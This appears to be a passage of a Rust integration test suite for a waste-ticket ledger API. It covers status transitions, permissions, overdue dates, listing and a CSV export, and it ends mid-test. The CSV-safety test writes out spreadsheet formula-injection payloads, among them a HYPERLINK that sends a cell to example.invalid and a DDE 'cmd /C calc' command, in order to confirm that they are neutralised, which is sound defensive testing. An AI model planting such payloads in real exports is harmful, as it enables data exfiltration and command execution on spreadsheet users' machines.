//! The problem list (问题清单, 销号管理) through the real router, on SQLite and PostgreSQL: the
//! `ticket.*` rules of §6 in the order §3 checks them, the reads and the export of §9, and
//! `verify --db` over the ticket tables.

mod common;

use axum::body::Body;
use axum::http::{header, Request, StatusCode};
use chrono::Duration;
use common::fixtures::*;
use common::harness::*;
use serde_json::{json, Value};
use tower::ServiceExt;

const EVIDENCE_HASH: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";

fn stranger(n: u64) -> Actor {
    Actor {
        org: org_id(n),
        key: key(n),
    }
}

/// A dumping site reported on the ground, with WGS-84 micro-degree coordinates.
fn dumping(id: &str, summary: &str) -> Value {
    json!({"ticket": id, "kind": "reported_dumping",
           "subject": {"code": OIL, "site": {"address": "钟楼区邹区镇某河道旁空地", "lat": 31_782_345, "lon": 119_853_210}},
           "summary": summary, "quantity_g": 4_000_000})
}

fn assign(id: &str, responsible: Option<&Actor>, due: &str) -> Value {
    let mut b = json!({"ticket": id, "lead": "钟楼生态环境局", "support": ["邹区镇人民政府", "钟楼区水利局"], "due": due});
    if let Some(r) = responsible {
        b["responsible"] = json!(r.org);
    }
    b
}

fn rectify(id: &str) -> Value {
    json!({"ticket": id, "note": "已清运至有资质单位处置，现场恢复",
           "evidence": [{"sha256": EVIDENCE_HASH, "name": "现场照片1.jpg"}, {"sha256": EVIDENCE_HASH, "name": "处置合同.pdf"}]})
}

/// A valid body for each move, with no responsible org named.
fn move_body(kind: &str, id: &str) -> Value {
    match kind {
        "ticket.assigned" => assign(id, None, &cst_day(30)),
        "ticket.rectified" => rectify(id),
        "ticket.closed" => json!({"ticket": id, "note": "复核通过，予以销号"}),
        _ => json!({"ticket": id, "reason": "复查"}),
    }
}

const MOVES: [&str; 5] = [
    "ticket.assigned",
    "ticket.rectified",
    "ticket.returned",
    "ticket.closed",
    "ticket.reopened",
];

async fn ticket(l: &TestLedger, id: &str) -> Value {
    let (s, v) = l.get(&format!("/v1/tickets/{id}")).await;
    assert_eq!(s, StatusCode::OK, "GET ticket {id}: {v}");
    v
}

async fn ticket_status(l: &TestLedger, id: &str) -> String {
    ticket(l, id).await["status"]
        .as_str()
        .unwrap_or("")
        .to_owned()
}

/// Opens a reported_dumping ticket as the regulator; returns its id.
async fn open_dumping(l: &TestLedger, summary: &str) -> String {
    let id = new_id();
    l.ok(&l.regulator, "ticket.opened", dumping(&id, summary))
        .await;
    id
}

/// Drives a ticket from open to `status` with regulator moves.
async fn drive_to(l: &TestLedger, id: &str, status: &str) {
    let path: &[&str] = match status {
        "open" => &[],
        "assigned" => &["ticket.assigned"],
        "rectified" => &["ticket.assigned", "ticket.rectified"],
        "closed" => &["ticket.assigned", "ticket.rectified", "ticket.closed"],
        other => panic!("no path to {other}"),
    };
    for kind in path {
        l.ok(&l.regulator, kind, move_body(kind, id)).await;
    }
    assert_eq!(ticket_status(l, id).await, status);
}

/// The raw answer of a GET: status, headers and body bytes.
async fn get_raw(l: &TestLedger, path: &str) -> (StatusCode, axum::http::HeaderMap, Vec<u8>) {
    let resp = l
        .router
        .clone()
        .oneshot(
            Request::get(path)
                .header(
                    "authorization",
                    format!("Bearer {}", token_of(&l.regulator)),
                )
                .body(Body::empty())
                .unwrap(),
        )
        .await
        .expect("the router answers");
    let (status, headers) = (resp.status(), resp.headers().clone());
    let bytes = axum::body::to_bytes(resp.into_body(), usize::MAX)
        .await
        .expect("a body");
    (status, headers, bytes.to_vec())
}

/// Every history item equals the entry at its seq.
async fn assert_history_matches_entries(l: &TestLedger, t: &Value) {
    for h in t["history"].as_array().expect("a history") {
        let (s, e) = l.get(&format!("/v1/entries/{}", h["seq"])).await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(h["hash"], e["hash"], "{h} vs {e}");
        assert_eq!(h["type"], e["event"]["type"]);
        assert_eq!(h["at"], e["event"]["at"]);
        assert_eq!(h["recorded_at"], e["recorded_at"]);
        assert_eq!(e["event"]["body"]["ticket"], t["ticket"]);
    }
}

storage_test!(a_dumping_ticket_through_its_whole_life, |b| async move {
    let l = TestLedger::start(b).await;
    let gen = l.register(10, &["generator"], ZHONGLOU).await;
    let id = new_id();
    let opened = l
        .ok(
            &l.regulator,
            "ticket.opened",
            dumping(&id, "群众举报河道旁倾倒疑似废矿物油约20桶"),
        )
        .await;
    let t = ticket(&l, &id).await;
    assert_eq!(
        t,
        json!({
            "ticket": id, "kind": "reported_dumping", "status": "open", "overdue": false,
            "subject": {"manifest": null, "org": null, "code": OIL, "lot": null,
                        "facility": null, "seq": null, "year": null, "period": null, "containers": null,
                        "site": {"address": "钟楼区邹区镇某河道旁空地", "lat": 31_782_345, "lon": 119_853_210}},
            "summary": "群众举报河道旁倾倒疑似废矿物油约20桶", "quantity_g": 4_000_000,
            "lead": null, "support": [], "responsible": null, "due": null,
            "opened_at": opened["event"]["at"], "closed_at": null,
            "history": [{"seq": opened["seq"], "type": "ticket.opened", "at": opened["event"]["at"],
                         "recorded_at": opened["recorded_at"], "hash": opened["hash"]}]
        })
    );

    let due = cst_day(30);
    l.ok(
        &l.regulator,
        "ticket.assigned",
        assign(&id, Some(&gen), &due),
    )
    .await;
    let t = ticket(&l, &id).await;
    assert_eq!(t["status"], "assigned");
    assert_eq!(t["lead"], "钟楼生态环境局");
    assert_eq!(t["support"], json!(["邹区镇人民政府", "钟楼区水利局"]));
    assert_eq!(t["responsible"], gen.org.as_str());
    assert_eq!(t["due"], due.as_str());
    assert_eq!(t["overdue"], false);

    // The responsible org reports its own rectification, with evidence.
    l.ok(&gen, "ticket.rectified", rectify(&id)).await;
    assert_eq!(ticket_status(&l, &id).await, "rectified");
    // 退回整改: sent back, rectified again (by the regulator this time), then closed off.
    l.ok(
        &l.regulator,
        "ticket.returned",
        json!({"ticket": id, "reason": "缺少处置单位接收凭证"}),
    )
    .await;
    assert_eq!(ticket_status(&l, &id).await, "assigned");
    l.ok(&gen, "ticket.rectified", rectify(&id)).await;
    let closed = l
        .ok(
            &l.regulator,
            "ticket.closed",
            json!({"ticket": id, "note": "复核通过，予以销号"}),
        )
        .await;
    let t = ticket(&l, &id).await;
    assert_eq!(t["status"], "closed");
    assert_eq!(t["closed_at"], closed["event"]["at"]);
    assert_eq!(t["opened_at"], opened["event"]["at"]);
    // Reopened: open again, no longer closed, the last assignment kept.
    l.ok(
        &l.regulator,
        "ticket.reopened",
        json!({"ticket": id, "reason": "复查发现同一地点再次倾倒"}),
    )
    .await;
    let t = ticket(&l, &id).await;
    assert_eq!(t["status"], "open");
    assert_eq!(t["closed_at"], Value::Null);
    assert_eq!(t["responsible"], gen.org.as_str());
    let types: Vec<&str> = t["history"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| h["type"].as_str().unwrap())
        .collect();
    assert_eq!(
        types,
        [
            "ticket.opened",
            "ticket.assigned",
            "ticket.rectified",
            "ticket.returned",
            "ticket.rectified",
            "ticket.closed",
            "ticket.reopened"
        ]
    );
    assert_history_matches_entries(&l, &t).await;
    // And it can go round again.
    l.ok(&l.regulator, "ticket.assigned", assign(&id, None, &due))
        .await;
    let t = ticket(&l, &id).await;
    assert_eq!(
        (t["status"].as_str(), &t["responsible"]),
        (Some("assigned"), &Value::Null)
    );

    let mut l = l;
    l.stop().await;
    let out = verify_db(&l).await;
    assert!(out.0, "verify failed: {}", out.1);
    assert!(out.1.contains("query tables equal a replay"), "{}", out.1);
});

storage_test!(every_other_move_is_an_invalid_transition, |b| async move {
    let l = TestLedger::start(b).await;
    // From each status, the moves that do not start there.
    let allowed = |status: &str| match status {
        "open" => vec!["ticket.assigned"],
        "assigned" => vec!["ticket.rectified"],
        "rectified" => vec!["ticket.returned", "ticket.closed"],
        _ => vec!["ticket.reopened"],
    };
    for status in ["open", "assigned", "rectified", "closed"] {
        let id = open_dumping(&l, "倾倒").await;
        drive_to(&l, &id, status).await;
        for kind in MOVES.iter().filter(|k| !allowed(status).contains(k)) {
            refused(
                &l,
                &l.regulator,
                kind,
                move_body(kind, &id),
                422,
                "invalid_transition",
            )
            .await;
        }
        assert_eq!(ticket_status(&l, &id).await, status);
    }
    // No closeout (销号) without a rectification: neither from open nor from assigned.
    let id = open_dumping(&l, "倾倒").await;
    refused(
        &l,
        &l.regulator,
        "ticket.closed",
        move_body("ticket.closed", &id),
        422,
        "invalid_transition",
    )
    .await;
    l.ok(
        &l.regulator,
        "ticket.assigned",
        move_body("ticket.assigned", &id),
    )
    .await;
    refused(
        &l,
        &l.regulator,
        "ticket.closed",
        move_body("ticket.closed", &id),
        422,
        "invalid_transition",
    )
    .await;
});

storage_test!(who_may_sign_ticket_events, |b| async move {
    let l = TestLedger::start(b).await;
    let gen = l.register(20, &["generator"], ZHONGLOU).await;
    let other = l.register(21, &["generator"], ZHONGLOU).await;
    let regulator2 = l.register(22, &["regulator"], ZHONGLOU).await;
    // Only a regulator opens the manual kinds.
    for who in [&gen, &other] {
        refused(
            &l,
            who,
            "ticket.opened",
            dumping(&new_id(), "倾倒"),
            403,
            "forbidden",
        )
        .await;
    }
    // A regulator may not open an automatic kind, even about a known manifest.
    let s = Scene::new(&l, 30).await;
    s.declare(&l, OIL, 1000).await;
    let m = s.open(&l, &[(OIL, 100)]).await;
    for kind in ["transit_overdue", "quantity_shortfall", "storage_overdue"] {
        let body = json!({"ticket": new_id(), "kind": kind, "subject": {"manifest": m}, "summary": "手工"});
        refused(&l, &l.regulator, "ticket.opened", body, 403, "forbidden").await;
    }
    // The ledger may not open a manual kind.
    let before = l.size().await;
    let e = json!({"v": 1, "id": new_id(), "type": "ticket.opened", "actor": "ledger", "at": now(),
                   "body": dumping(&new_id(), "倾倒")});
    let answer = l.post(&sign(&e, &l.ledger_key)).await;
    assert_refused(
        &l,
        before,
        answer,
        403,
        "forbidden",
        "the ledger opening reported_dumping",
    )
    .await;

    // Any regulator moves a ticket; other orgs only report their own rectification.
    let id = open_dumping(&l, "倾倒").await;
    for kind in MOVES {
        refused(&l, &gen, kind, move_body(kind, &id), 403, "forbidden").await;
    }
    l.ok(
        &regulator2,
        "ticket.assigned",
        assign(&id, Some(&gen), &cst_day(10)),
    )
    .await;
    refused(
        &l,
        &other,
        "ticket.rectified",
        rectify(&id),
        403,
        "forbidden",
    )
    .await;
    // The role check comes before the lookup; the responsible-org check after it.
    refused(
        &l,
        &gen,
        "ticket.closed",
        move_body("ticket.closed", &new_id()),
        403,
        "forbidden",
    )
    .await;
    refused(
        &l,
        &other,
        "ticket.rectified",
        rectify(&new_id()),
        422,
        "unknown_ticket",
    )
    .await;
    l.ok(&gen, "ticket.rectified", rectify(&id)).await;
    // The party check comes before the transition; the responsible org itself meets the latter.
    refused(
        &l,
        &other,
        "ticket.rectified",
        rectify(&id),
        403,
        "forbidden",
    )
    .await;
    refused(
        &l,
        &gen,
        "ticket.rectified",
        rectify(&id),
        422,
        "invalid_transition",
    )
    .await;
    // Even the responsible org may not close it, nor send it back.
    refused(
        &l,
        &gen,
        "ticket.closed",
        move_body("ticket.closed", &id),
        403,
        "forbidden",
    )
    .await;
    refused(
        &l,
        &gen,
        "ticket.returned",
        move_body("ticket.returned", &id),
        403,
        "forbidden",
    )
    .await;
    l.ok(
        &l.regulator,
        "ticket.returned",
        move_body("ticket.returned", &id),
    )
    .await;
    // Reassigned without a responsible org: the former one loses its right.
    l.ok(&regulator2, "ticket.rectified", rectify(&id)).await;
    l.ok(
        &l.regulator,
        "ticket.returned",
        move_body("ticket.returned", &id),
    )
    .await;
    l.ok(&l.regulator, "ticket.rectified", rectify(&id)).await;
    l.ok(
        &l.regulator,
        "ticket.closed",
        move_body("ticket.closed", &id),
    )
    .await;
    l.ok(
        &l.regulator,
        "ticket.reopened",
        move_body("ticket.reopened", &id),
    )
    .await;
    l.ok(
        &l.regulator,
        "ticket.assigned",
        assign(&id, None, &cst_day(10)),
    )
    .await;
    refused(&l, &gen, "ticket.rectified", rectify(&id), 403, "forbidden").await;
});

storage_test!(objects_named_and_ticket_ids, |b| async move {
    let l = TestLedger::start(b).await;
    let s = Scene::new(&l, 40).await;
    let lot = s.declare(&l, OIL, 1000).await;
    let m = s.open(&l, &[(OIL, 100)]).await;
    let body = |subject: Value| json!({"ticket": new_id(), "kind": "suspected_illegal_transfer", "subject": subject, "summary": "核查"});
    // The subject's manifest and org must exist; a lot must be a waste.declared entry.
    refused(
        &l,
        &l.regulator,
        "ticket.opened",
        body(json!({"manifest": new_id()})),
        422,
        "unknown_manifest",
    )
    .await;
    refused(
        &l,
        &l.regulator,
        "ticket.opened",
        body(json!({"org": stranger(49).org})),
        422,
        "unknown_org",
    )
    .await;
    refused(
        &l,
        &l.regulator,
        "ticket.opened",
        body(json!({"org": s.gen.org, "lot": lot + 1})),
        400,
        "invalid_event",
    )
    .await;
    refused(
        &l,
        &l.regulator,
        "ticket.opened",
        body(json!({"org": s.gen.org, "lot": 0})),
        400,
        "invalid_event",
    )
    .await;
    // Shapes: a kind that is not snake_case, an unknown subject field, no summary.
    let mut bad = body(json!({}));
    bad["kind"] = json!("Reported-Dumping");
    refused(&l, &l.regulator, "ticket.opened", bad, 400, "invalid_event").await;
    refused(
        &l,
        &l.regulator,
        "ticket.opened",
        body(json!({"river": "京杭运河"})),
        400,
        "invalid_event",
    )
    .await;
    let mut bad = body(json!({}));
    bad.as_object_mut().unwrap().remove("summary");
    refused(&l, &l.regulator, "ticket.opened", bad, 400, "invalid_event").await;

    let id = new_id();
    let mut ok = body(json!({"manifest": m, "org": s.gen.org, "code": OIL, "lot": lot}));
    ok["ticket"] = json!(id);
    l.ok(&l.regulator, "ticket.opened", ok.clone()).await;
    // The body's ticket id is the key, whatever the event id: a new event with it is refused.
    refused(&l, &l.regulator, "ticket.opened", ok, 422, "ticket_exists").await;
    refused(
        &l,
        &l.regulator,
        "ticket.opened",
        dumping(&id, "另一事"),
        422,
        "ticket_exists",
    )
    .await;
    let t = ticket(&l, &id).await;
    assert_eq!(
        t["subject"],
        json!({"manifest": m, "org": s.gen.org, "code": OIL, "lot": lot, "site": null,
               "facility": null, "seq": null, "year": null, "period": null, "containers": null})
    );
    assert_eq!(t["quantity_g"], Value::Null);

    // Moves on a ticket that does not exist.
    for kind in MOVES {
        refused(
            &l,
            &l.regulator,
            kind,
            move_body(kind, &new_id()),
            422,
            "unknown_ticket",
        )
        .await;
    }
    // The responsible org must be registered; the unknown ticket is named first.
    refused(
        &l,
        &l.regulator,
        "ticket.assigned",
        assign(&id, Some(&stranger(48)), &cst_day(5)),
        422,
        "unknown_org",
    )
    .await;
    refused(
        &l,
        &l.regulator,
        "ticket.assigned",
        assign(&new_id(), Some(&stranger(48)), &cst_day(5)),
        422,
        "unknown_ticket",
    )
    .await;
    // ... and named before the transition is judged.
    let closed = open_dumping(&l, "倾倒").await;
    drive_to(&l, &closed, "closed").await;
    refused(
        &l,
        &l.regulator,
        "ticket.assigned",
        assign(&closed, Some(&stranger(48)), &cst_day(5)),
        422,
        "unknown_org",
    )
    .await;
    // A due date that is no date; evidence 1..50.
    refused(
        &l,
        &l.regulator,
        "ticket.assigned",
        assign(&id, None, "2025-02-30"),
        400,
        "invalid_event",
    )
    .await;
    l.ok(
        &l.regulator,
        "ticket.assigned",
        assign(&id, Some(&s.carrier), &cst_day(5)),
    )
    .await;
    let mut none = rectify(&id);
    none["evidence"] = json!([]);
    refused(
        &l,
        &s.carrier,
        "ticket.rectified",
        none,
        400,
        "invalid_event",
    )
    .await;
    let mut many = rectify(&id);
    many["evidence"] = json!(vec![
        json!({"sha256": EVIDENCE_HASH, "name": "照片.jpg"});
        51
    ]);
    refused(
        &l,
        &s.carrier,
        "ticket.rectified",
        many,
        400,
        "invalid_event",
    )
    .await;
    let mut fifty = rectify(&id);
    fifty["evidence"] = json!(vec![
        json!({"sha256": EVIDENCE_HASH, "name": "照片.jpg"});
        50
    ]);
    l.ok(&s.carrier, "ticket.rectified", fifty).await;
});

storage_test!(
    events_may_not_be_dated_before_the_tickets_last,
    |b| async move {
        let l = TestLedger::start(b).await;
        let id = new_id();
        let t0 = chrono::Utc::now() - Duration::hours(2);
        ok_at(
            &l,
            &l.regulator,
            "ticket.opened",
            dumping(&id, "倾倒"),
            &ts(t0),
        )
        .await;
        let earlier = ts(t0 - Duration::seconds(1));
        refused_at(
            &l,
            &l.regulator,
            "ticket.assigned",
            move_body("ticket.assigned", &id),
            &earlier,
            422,
            "bad_timestamp",
        )
        .await;
        // The same instant is fine, and the ordering follows each move.
        ok_at(
            &l,
            &l.regulator,
            "ticket.assigned",
            move_body("ticket.assigned", &id),
            &ts(t0),
        )
        .await;
        let t1 = t0 + Duration::minutes(30);
        ok_at(&l, &l.regulator, "ticket.rectified", rectify(&id), &ts(t1)).await;
        refused_at(
            &l,
            &l.regulator,
            "ticket.closed",
            move_body("ticket.closed", &id),
            &ts(t1 - Duration::minutes(1)),
            422,
            "bad_timestamp",
        )
        .await;
        // The ordering is judged before the transition.
        refused_at(
            &l,
            &l.regulator,
            "ticket.reopened",
            move_body("ticket.reopened", &id),
            &ts(t0),
            422,
            "bad_timestamp",
        )
        .await;
        ok_at(
            &l,
            &l.regulator,
            "ticket.closed",
            move_body("ticket.closed", &id),
            &ts(t1),
        )
        .await;
        // Another ticket is not held to this one's times.
        let other = new_id();
        ok_at(
            &l,
            &l.regulator,
            "ticket.opened",
            dumping(&other, "倾倒"),
            &ts(t0 - Duration::hours(1)),
        )
        .await;
    }
);

storage_test!(
    overdue_is_judged_on_the_cst_date_of_the_read,
    |b| async move {
        let l = TestLedger::start(b).await;
        let gen = l.register(50, &["generator"], ZHONGLOU).await;
        // The event itself can be at most 14 days old, but `due` may be any date.
        let mut ids = Vec::new();
        for due in ["2020-01-01".to_owned(), cst_day(-1), cst_day(0), cst_day(1)] {
            let id = open_dumping(&l, "倾倒").await;
            l.ok(
                &l.regulator,
                "ticket.assigned",
                assign(&id, Some(&gen), &due),
            )
            .await;
            ids.push(id);
        }
        let overdue = |t: Value| t["overdue"].as_bool().expect("overdue is a boolean");
        // Due yesterday or before: overdue. Due today: not until tomorrow 00:00 CST.
        let want = [true, true, false, false];
        for (id, want) in ids.iter().zip(want) {
            assert_eq!(overdue(ticket(&l, id).await), want, "ticket {id}");
        }
        // Still overdue once rectified; not once closed; again once reopened (the old date stands).
        let id = &ids[0];
        l.ok(&gen, "ticket.rectified", rectify(id)).await;
        assert!(overdue(ticket(&l, id).await));
        l.ok(
            &l.regulator,
            "ticket.closed",
            move_body("ticket.closed", id),
        )
        .await;
        assert!(!overdue(ticket(&l, id).await));
        l.ok(
            &l.regulator,
            "ticket.reopened",
            move_body("ticket.reopened", id),
        )
        .await;
        assert!(overdue(ticket(&l, id).await));
        // A ticket with no due date is never overdue.
        let fresh = open_dumping(&l, "倾倒").await;
        assert!(!overdue(ticket(&l, &fresh).await));
        // The list says the same.
        let (_, page) = l.get("/v1/tickets").await;
        let flags: Vec<bool> = page["tickets"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| overdue(t.clone()))
            .collect();
        assert_eq!(flags, [true, true, false, false, false]);
    }
);

storage_test!(lists_filter_and_page, |b| async move {
    let l = TestLedger::start(b).await;
    let s = Scene::new(&l, 60).await;
    let bystander = l.register(63, &["generator"], ZHONGLOU).await;
    let responsible = l.register(64, &["generator"], XINBEI).await;
    s.declare(&l, OIL, 1000).await;
    let m = s.open(&l, &[(OIL, 100)]).await;
    // 0: about the manifest; 1: about the generator; 2, 3: dumping sites, one assigned to
    // `responsible`; 4: about the bystander, closed.
    let mut ids = Vec::new();
    let opened = |kind: &str, subject: Value| json!({"ticket": new_id(), "kind": kind, "subject": subject, "summary": "核查"});
    for (kind, subject) in [
        ("suspected_illegal_transfer", json!({"manifest": m})),
        ("illegal_storage", json!({"org": s.gen.org})),
    ] {
        let b = opened(kind, subject);
        ids.push(b["ticket"].as_str().unwrap().to_owned());
        l.ok(&l.regulator, "ticket.opened", b).await;
    }
    ids.push(open_dumping(&l, "倾倒").await);
    ids.push(open_dumping(&l, "倾倒").await);
    l.ok(
        &l.regulator,
        "ticket.assigned",
        assign(&ids[3], Some(&responsible), &cst_day(3)),
    )
    .await;
    let b = opened("illegal_storage", json!({"org": bystander.org}));
    ids.push(b["ticket"].as_str().unwrap().to_owned());
    l.ok(&l.regulator, "ticket.opened", b).await;
    drive_to(&l, &ids[4], "closed").await;

    let list = |q: String| {
        let l = &l;
        async move {
            let (s, v) = l.get(&format!("/v1/tickets{q}")).await;
            assert_eq!(s, StatusCode::OK, "GET /v1/tickets{q}: {v}");
            let got: Vec<String> = v["tickets"]
                .as_array()
                .unwrap()
                .iter()
                .map(|t| t["ticket"].as_str().unwrap().to_owned())
                .collect();
            (got, v["next"].clone())
        }
    };
    let pick = |which: &[usize]| which.iter().map(|&i| ids[i].clone()).collect::<Vec<_>>();
    assert_eq!(
        list(String::new()).await,
        (pick(&[0, 1, 2, 3, 4]), Value::Null)
    );
    assert_eq!(list("?status=open".into()).await.0, pick(&[0, 1, 2]));
    assert_eq!(list("?status=assigned".into()).await.0, pick(&[3]));
    assert_eq!(list("?status=closed".into()).await.0, pick(&[4]));
    assert_eq!(list("?status=rectified".into()).await.0, pick(&[]));
    assert_eq!(list("?kind=reported_dumping".into()).await.0, pick(&[2, 3]));
    assert_eq!(
        list("?kind=illegal_storage&status=open".into()).await.0,
        pick(&[1])
    );
    // org: the subject org, the responsible org, or a party of the subject manifest.
    assert_eq!(list(format!("?org={}", s.gen.org)).await.0, pick(&[0, 1]));
    assert_eq!(list(format!("?org={}", s.carrier.org)).await.0, pick(&[0]));
    assert_eq!(list(format!("?org={}", s.receiver.org)).await.0, pick(&[0]));
    assert_eq!(
        list(format!("?org={}", responsible.org)).await.0,
        pick(&[3])
    );
    assert_eq!(
        list(format!("?org={}&status=closed", bystander.org))
            .await
            .0,
        pick(&[4])
    );
    assert_eq!(
        list(format!("?org={}", stranger(69).org)).await.0,
        pick(&[])
    );
    // Paging: the cursor of a full page leads to the next; the last page says null.
    let (first, next) = list("?limit=2".into()).await;
    assert_eq!(first, pick(&[0, 1]));
    let (second, next) = list(format!("?limit=2&after={}", next.as_str().unwrap())).await;
    assert_eq!(second, pick(&[2, 3]));
    let (third, next) = list(format!("?limit=2&after={}", next.as_str().unwrap())).await;
    assert_eq!((third, next), (pick(&[4]), Value::Null));
    let (p, next) = list("?kind=reported_dumping&limit=1".into()).await;
    assert_eq!(p, pick(&[2]));
    let (p, _) = list(format!(
        "?kind=reported_dumping&limit=1&after={}",
        next.as_str().unwrap()
    ))
    .await;
    assert_eq!(p, pick(&[3]));
    // Items of a list carry their history, like a single read.
    let (_, v) = l.get("/v1/tickets?status=closed").await;
    assert_eq!(v["tickets"][0], ticket(&l, &ids[4]).await);
    assert_history_matches_entries(&l, &v["tickets"][0]).await;

    // Bad parameters, unknown ids.
    for q in [
        "status=done",
        "kind=Reported",
        "limit=0",
        "limit=1001",
        "after=x",
        "org=abc",
        "colour=red",
    ] {
        assert_problem(
            &l.get(&format!("/v1/tickets?{q}")).await,
            400,
            "invalid_query",
        );
    }
    assert_problem(
        &l.get("/v1/tickets.csv?limit=5").await,
        400,
        "invalid_query",
    );
    assert_problem(
        &l.get("/v1/tickets.csv?status=done").await,
        400,
        "invalid_query",
    );
    assert_problem(
        &l.get(&format!("/v1/tickets/{}", new_id())).await,
        404,
        "not_found",
    );
    assert_problem(&l.get("/v1/tickets/not-a-uuid").await, 404, "not_found");
    assert_problem(&l.get(&format!("/v1/tickets/{m}")).await, 404, "not_found");

    // The OpenAPI document lists the three reads.
    let (_, doc) = l.get("/openapi.json").await;
    for p in ["/v1/tickets", "/v1/tickets/{id}", "/v1/tickets.csv"] {
        assert!(
            doc["paths"].get(p).is_some(),
            "{p} missing from the OpenAPI document"
        );
    }

    // The tables survive a restart.
    let mut l = l;
    l.restart().await;
    let (_, v) = l.get("/v1/tickets").await;
    assert_eq!(v["tickets"][3], ticket(&l, &ids[3]).await);
    assert_eq!(v["tickets"].as_array().unwrap().len(), 5);
    l.stop().await;
    let out = verify_db(&l).await;
    assert!(out.0, "verify failed: {}", out.1);
});

storage_test!(the_csv_export, |b| async move {
    let l = TestLedger::start(b).await;
    let s = Scene::new(&l, 70).await;
    s.declare(&l, OIL, 1000).await;
    let m = s.open(&l, &[(OIL, 100)]).await;
    let number = manifest(&l, &m).await["number"]
        .as_str()
        .unwrap()
        .to_owned();
    // A summary with a comma, a quote and a line break, and one in plain Chinese.
    let tricky = "河道旁倾倒, 约20桶，标注\"废机油\"\n待核实";
    let first = open_dumping(&l, tricky).await;
    l.ok(
        &l.regulator,
        "ticket.assigned",
        assign(&first, Some(&s.gen), "2020-01-01"),
    )
    .await;
    let second = new_id();
    let opened = l
        .ok(&l.regulator, "ticket.opened",
            json!({"ticket": second, "kind": "suspected_illegal_transfer", "subject": {"manifest": m}, "summary": "联单数量存疑", "quantity_g": 250}))
        .await;
    drive_to(&l, &second, "closed").await;
    let closed_at = ticket(&l, &second).await["closed_at"]
        .as_str()
        .unwrap()
        .to_owned();

    let (status, headers, bytes) = get_raw(&l, "/v1/tickets.csv").await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "text/csv; charset=utf-8");
    assert_eq!(
        &bytes[..3],
        b"\xef\xbb\xbf",
        "the export starts with a UTF-8 BOM"
    );
    let text = std::str::from_utf8(&bytes[3..]).expect("UTF-8");
    let rows: Vec<&str> = text.split_inclusive("\r\n").collect();
    assert_eq!(rows[0], "编号,类型,状态,是否逾期,摘要,联单,单位,数量(克),牵头单位,责任单位,期限,立案时间,销号时间\r\n");
    let t1 = ticket(&l, &first).await;
    let quoted = "\"河道旁倾倒, 约20桶，标注\"\"废机油\"\"\n待核实\"";
    assert_eq!(
        rows[1],
        format!(
            "{first},reported_dumping,已交办,是,{quoted},,,4000000,钟楼生态环境局,{},2020-01-01,{},\r\n",
            s.gen.org,
            t1["opened_at"].as_str().unwrap()
        )
    );
    assert_eq!(
        rows[2],
        format!(
            "{second},suspected_illegal_transfer,已销号,否,联单数量存疑,{number},{},250,钟楼生态环境局,,{},{},{closed_at}\r\n",
            s.gen.org,
            cst_day(30),
            opened["event"]["at"].as_str().unwrap()
        )
    );
    assert_eq!(rows.len(), 3);
    // Filters as for the list.
    let (_, _, bytes) = get_raw(&l, "/v1/tickets.csv?status=closed").await;
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert_eq!(text.matches("\r\n").count(), 2);
    assert!(text.contains(&second) && !text.contains(&first));
    let (_, _, bytes) = get_raw(
        &l,
        &format!("/v1/tickets.csv?org={}&kind=reported_dumping", s.gen.org),
    )
    .await;
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(text.contains(&first) && !text.contains(&second));
    // No tickets: the header alone.
    let (_, _, bytes) = get_raw(&l, "/v1/tickets.csv?kind=nothing_like_this").await;
    assert_eq!(bytes.len(), 3 + rows[0].len());
});

storage_test!(
    the_csv_export_never_hands_a_spreadsheet_a_formula,
    |b| async move {
        let l = TestLedger::start(b).await;
        // Summaries a spreadsheet would run: formulas, a DDE command, their full-width forms.
        let hostile = [
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击查看\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1",
            "-1+1, 倾倒",
            "\t=1+1",
            "＝1+1",
        ];
        for summary in hostile {
            open_dumping(&l, summary).await;
        }
        let (status, _, bytes) = get_raw(&l, "/v1/tickets.csv").await;
        assert_eq!(status, StatusCode::OK);
        let rows = csv_cells(&bytes);
        assert_eq!(rows.len(), 1 + hostile.len());
        for row in &rows {
            for cell in row {
                let first = cell.chars().next();
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number
                        || !matches!(
                            first,
                            Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
                        ),
                    "a spreadsheet would run the cell {cell:?}"
                );
            }
        }
        // The text is all there, behind the apostrophe that makes it text.
        let summaries: Vec<&str> = rows[1..].iter().map(|r| r[4].as_str()).collect();
        for summary in hostile {
            assert!(
                summaries.contains(&format!("'{summary}").as_str()),
                "{summary:?} in {summaries:?}"
            );
        }
        // Numbers stay numbers: the quantity column.
        assert!(
            rows[1..].iter().all(|r| r[7].parse::<i64>().is_ok()),
            "{rows:?}"
        );
    }
);

/// The cells of a CSV export as Python's csv module reads them (a spreadsheet program's view).
fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    use std::io::Write;
    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/tools/csv_cells.py");
    let mut child = std::process::Command::new("python3")
        .arg(script)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .expect("python3 reads the CSV");
    child.stdin.take().unwrap().write_all(bytes).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "the CSV reader failed");
    serde_json::from_slice(&out.stdout).expect("rows as JSON")
}

storage_test!(verify_catches_altered_ticket_tables, |b| async move {
    let mut l = TestLedger::start(b).await;
    let id = open_dumping(&l, "倾倒").await;
    drive_to(&l, &id, "rectified").await;
    let rectified = ticket(&l, &id).await["history"][2]["seq"].as_u64().unwrap();
    l.stop().await;
    let out = verify_db(&l).await;
    assert!(out.0, "verify failed: {}", out.1);
    let cases = [
        (
            format!("update tickets set status = 'closed' where id = '{id}'"),
            format!("update tickets set status = 'rectified' where id = '{id}'"),
            format!("the tickets table differs from the ledger for {id}"),
        ),
        (
            format!("update ticket_history set hash = '{}' where seq = {rectified}", "0".repeat(64)),
            format!("update ticket_history set hash = (select hash from entries where seq = {rectified}) where seq = {rectified}"),
            format!("entry {rectified}: the ticket_history table differs from the ledger here"),
        ),
        (
